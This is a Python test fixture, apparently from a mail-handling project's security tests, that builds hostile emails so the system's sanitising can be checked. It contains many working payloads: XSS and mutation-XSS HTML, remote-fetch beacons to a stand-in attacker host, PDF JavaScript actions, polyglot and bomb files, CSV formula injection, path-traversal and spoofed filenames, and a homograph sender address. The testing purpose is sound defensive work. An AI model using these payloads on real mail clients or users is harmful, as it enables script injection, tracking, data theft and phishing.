"""Mails that try to run something, to fetch something, or to pass for something else.

Each is made for a server of the attacker's, `{evil}`, which learns of whatever is fetched; what runs sets `ran`
in the window at the top and tells the server too.
"""

import base64
from collections.abc import Callable, Mapping

from tests.review import papers
from tests.review.post import SUBJECT, TEXT, letter

RUN = "try{top.ran=1}catch(e){};new Image().src='{evil}/ran'"
# HTML by what it tries. {run} is script for an attribute in double quotes.
PAGES: Mapping[str, str] = {
    "script": "<script>{run}</script>",
    "script from elsewhere": '<script src="{evil}/x.js"></script>',
    "module and import map": '<script type="importmap">{"imports":{"x":"{evil}/m.js"}}</script><script type="module">import "x"</script>',
    "image with a handler": '<img src=x onerror="{run}">',
    "svg with a handler": '<svg onload="{run}"><script>{run}</script><image href="{evil}/i.png"/><use href="{evil}/u.svg#a"/></svg>',
    "style import": "<style>@import url({evil}/a.css);</style><p>x</p>",
    "style background": "<style>body,p{background:url({evil}/b.png)} @font-face{font-family:f;src:url({evil}/f.woff)} p{font-family:f}</style><p>x</p>",
    "style attribute": '<p style="background:url({evil}/c.png);list-style:url({evil}/d.png);background-color:red url(\'{evil}/e.png\')">x</p>',
    "style attribute escaped": '<p style="background:\\75rl({evil}/c.png);border-image:url({evil}/d.png);cursor:url({evil}/e.cur),auto;color:expression({run});behavior:url({evil}/x.htc)">x</p>',
    "image set": '<p style="background-image:image-set(\'{evil}/a.png\' 1x);padding:1px;color:var(--x,url({evil}/b.png))">x</p>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url={evil}/refresh"><meta http-equiv="Set-Cookie" content="a=b">',
    "base": '<base href="{evil}/"><img src="rel.png"><a href="rel">x</a>',
    "form": '<form id="f" action="{evil}/form" method="post"><input autofocus onfocus="{run}" name="a" value="b"><input type="image" src="{evil}/b.png"><button formaction="{evil}/g">x</button></form>',
    "iframe": '<iframe src="{evil}/frame"></iframe><iframe srcdoc="<script>{run}</script>"></iframe><frameset><frame src="{evil}/g"></frameset>',
    "object and embed": '<object data="{evil}/o.swf"><param name="movie" value="{evil}/p"></object><embed src="{evil}/e.pdf"><applet code="x" codebase="{evil}/"></applet>',
    "javascript link": '<a id="l" href="javascript:{run}">klik</a><a href=" &#1;java&#10;script:{run}">klik</a><a href="vbscript:x">k</a><area href="javascript:{run}">',
    "data link": '<a href="data:text/html,<script>{run}</script>">klik</a><iframe src="data:text/html,<script>{run}</script>"></iframe>',
    "mutation, math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;{run}&quot;&gt;">',
    "mutation, svg": '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
    "mutation, noscript": '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "mutation, form": '<form><math><mtext></form><form><mglyph><style></math><img src onerror="{run}">',
    "mutation, comment": "<!--><img src=x onerror={run}>--><!--!><img src=x onerror={run}>--><![CDATA[><img src=x onerror={run}>]]>",
    "raw text": '<textarea><img title="</textarea><img src=x onerror={run}>"></textarea><xmp><p title="</xmp><img src=x onerror={run}>"></xmp><plaintext><img src=x onerror={run}>',
    "template": '<template><img src="{evil}/t.png" onerror="{run}"></template><template shadowrootmode="open"><img src="{evil}/s.png"></template>',
    "remote pictures": '<img src="{evil}/a.png"><img srcset="{evil}/b.png 1x"><picture><source srcset="{evil}/c.png"><img src="{evil}/d.png"></picture><video poster="{evil}/p.png" src="{evil}/v.mp4" autoplay></video><audio src="{evil}/a.mp3" autoplay></audio>',
    "links in the head": '<link rel="stylesheet" href="{evil}/l.css"><link rel="prefetch" href="{evil}/m"><link rel="preload" as="image" href="{evil}/n.png"><link rel="dns-prefetch" href="{evil}"><link rel="icon" href="{evil}/i.ico"><link rel="manifest" href="{evil}/w.json">',
    "old backgrounds": '<body background="{evil}/a.png"><table background="{evil}/b.png"><tr><td background="{evil}/c.png" lowsrc="{evil}/d.png">x</table>',
    "every handler": '<body onload="{run}" onpageshow="{run}"><details open ontoggle="{run}">x</details><marquee onstart="{run}">x</marquee><p style="animation:x" onanimationstart="{run}" tabindex="0" autofocus onfocus="{run}">x</p>',
    "conditional comment": "<!--[if gte mso 9]><script>{run}</script><![endif]--><![if !IE]><img src=x onerror={run}><![endif]><?xml-stylesheet href='{evil}/x.xsl'?>",
    "no end": "<img src='{evil}/dangling?",
    "depth": "<div>" * 20_000 + '<img src=x onerror="{run}">' + "<b><i><a>" * 3_000,
    "hiding": '<p style="position:fixed;inset:0;display:none;opacity:0;font-size:0;z-index:9">weg</p><dialog open>x</dialog><div popover id="p">x</div>',
    "names of our own": '<p id="inhoud" class="bar" name="token">x</p><a name="form" id="hulp">x</a><img name="getElementById" src="cid:x">',
}  # fmt: skip


def pages(evil: str) -> dict[str, str]:
    """The HTML of each that has one."""
    run = RUN.replace("{evil}", evil)
    return {name: html.replace("{run}", run).replace("{evil}", evil) for name, html in PAGES.items()}


def files(evil: str) -> dict[str, list[tuple[str, str, bytes]]]:
    """Attachments by what they try."""
    run = RUN.replace("{evil}", evil)
    script = f"<script>{run}</script>"
    svg = (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{run}\">{script}<image href='{evil}/i.png'/></svg>"
    )
    actions = f"/OpenAction<</S/JavaScript/JS(app.launchURL\\('{evil}/js'\\))>>/AA<</O<</S/URI/URI({evil}/uri)>>>>".encode()
    page = papers.pdf(papers.line("9 mei 2017"), more=actions)
    gif = b"GIF89a/*" + b"\0" * 20 + f"*/=1;{run}//".encode()
    names = [
        "../../../etc/cron.d/x.pdf",
        "..\\..\\x.pdf",
        'a";filename="b.html',
        "a\u202efdp.html",
        "con.txt",
        "<img src=x onerror=1>.txt",
    ]
    return {
        "an svg": [("tekening.svg", "image/svg+xml", svg.encode())],
        "an svg that says it is a png": [("foto.png", "image/png", svg.encode())],
        "a page": [("pagina.html", "text/html", script.encode()), ("p.xhtml", "application/xhtml+xml", script.encode())],
        "a page that says it is a picture": [("foto.jpg", "image/jpeg", f"<html>{script}".encode())],
        "a picture that is a script": [("foto.gif", "image/gif", gif)],
        "a document that is a page": [("flyer.pdf", "application/pdf", f"<html>{script}\n".encode() + page)],
        "a document with actions": [("flyer.pdf", "application/pdf", page)],
        "a locked document": [("flyer.pdf", "application/pdf", papers.encrypted_pdf())],
        "a page as large as a house": [("flyer.pdf", "application/pdf", papers.pdf(papers.line("x"), size=(14_400, 14_400)))],
        "a bomb of a picture": [("foto.png", "image/png", papers.bomb_png())],
        "a bomb of a document": [("flyer.pdf", "application/pdf", papers.bomb_pdf())],
        "a broken photo": [("foto.jpg", "image/jpeg", papers.photo()[:3000])],
        "a photo with a place": [("foto.jpg", "image/jpeg", papers.photo((2000, 1500), exif=True))],
        "a table of formulas": [("tabel.csv", "text/csv", f'=HYPERLINK("{evil}/f";"x");+1;@SUM(1);-2\n'.encode())],
        "names": [(name, "text/plain", b"tekst") for name in names],
        "a stylesheet of xml": [("x.xml", "text/xml", f"<?xml-stylesheet href='{evil}/x.xsl' type='text/xsl'?><a/>".encode())],
        "a card with a picture": [("anna.vcf", "text/vcard", f"BEGIN:VCARD\r\nFN:{script}\r\nPHOTO:{evil}/p.jpg\r\nEND:VCARD\r\n".encode())],
        "macros": [("flyer.docm", "application/vnd.ms-word.document.macroEnabled.12", b"PK\3\4vbaProject.bin" + b"\0" * 99)],
    }  # fmt: skip


def letters(evil: str) -> dict[str, bytes]:
    """Every mail, by what it tries."""
    run = RUN.replace("{evil}", evil)
    words = f"<p>{TEXT}</p>"
    hidden = f"cid:x{run}"
    found: dict[str, bytes] = {
        name: letter(f"<html><body>{words}{html}</body></html>") for name, html in pages(evil).items()
    }
    found |= {name: letter(words, here) for name, here in files(evil).items()}
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{run}\"/>".encode()
    more: Mapping[str, Callable[[], bytes]] = {
        "pictures within": lambda: letter(
            f'{words}<img src="cid:a"><img src="CID:b"><img src="cid:c"><img src="{hidden}">',
            [
                ("cid:a", "image/png", papers.photo((40, 30), kind="PNG")),
                ("cid:b", "image/svg+xml", svg),
                ("cid:c", "image/png", papers.bomb_png()),
            ],
        ),
        "text that is a page": lambda: letter(
            text=f"{TEXT}\n<script>{run}</script>\n<img src=x onerror=\"{run}\">",
            Subject=f"{SUBJECT} <script>{run}</script>",
            From=f"\"<img src=x onerror='{run[:3]}'>\" <anna@school.nl>",
        ),
        "another charset": lambda: letter(text="@@").replace(
            b"@@", b"+ADw-script+AD4-top.ran=1+ADw-/script+AD4- tekst"
        ).replace(b'charset="utf-8"', b'charset="utf-7"').replace(b"text/plain", b"text/html"),
        "an address that looks like another": lambda: letter(
            From="=?utf-8?b?" + base64.b64encode("Gemeente \u0417wolle".encode()).decode() + "?= <info@xn--wolle-bke.nl>"
        ),
    }  # fmt: skip
    return found | {name: make() for name, make in more.items()}
